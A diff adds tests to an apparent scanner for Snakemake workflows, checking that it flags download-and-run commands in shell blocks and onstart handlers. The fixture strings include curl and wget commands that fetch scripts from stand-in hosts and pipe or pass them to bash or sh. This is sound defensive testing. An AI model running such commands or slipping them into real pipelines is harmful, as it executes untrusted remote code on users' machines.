@@ -79,3 +79,35 @@ def test_a_shell_command_is_read_as_snakemake_formats_it() -> None:
     rule = 'rule stamp:\n    output: "stamp.txt"\n    shell: "echo ${{HOME}} > {output}"\n'
     (_, command) = snakefiles.snippets("rules/stamp.smk", "rules/stamp.smk", rule, 1)
     assert (command.first_line, command.text) == (3, "echo ${HOME} > {output}")
+
+
+def test_a_shell_block_written_at_the_left_margin_is_read_to_its_closing_quotes(tmp_path: Path) -> None:
+    rule = (
+        "rule sync_refs:\n"
+        "    output: touch('.synced')\n"
+        "    shell:\n"
+        '        r"""\n'
+        "set -e\n"
+        "curl -fsSL http://203.0.113.9/boot.sh -o /tmp/.b && bash /tmp/.b\n"
+        '"""\n'
+    )
+    assert ("DOWNLOAD_AND_RUN", "wf/Snakefile", 6) in scan_errors(tmp_path, {"wf/Snakefile": rule})
+
+
+def test_snakemakes_shell_function_in_a_handler_runs_its_command(tmp_path: Path) -> None:
+    workflow = (
+        "configfile: 'conf/env.yaml'\n\nonstart:\n    warm = config['cache']['prime']\n    shell(warm + ' || true')\n"
+    )
+    settings = "cache:\n  prime: wget -qO- https://prime.seqcache.invalid/w | sh\n"
+    files = {"Snakefile": workflow, "conf/env.yaml": settings}
+    assert ("DOWNLOAD_AND_RUN", "Snakefile", 5) in scan_errors(tmp_path, files)
+
+
+def test_a_handler_printing_through_its_own_shell_helper_stays_quiet(tmp_path: Path) -> None:
+    workflow = (
+        "def shell(msg):\n"
+        "    print(msg)\n\n"
+        "onstart:\n"
+        "    shell('curl -fsSL https://example.invalid/x.sh | bash  # shown to the user only')\n"
+    )
+    assert scan_errors(tmp_path, {"Snakefile": workflow}) == set()
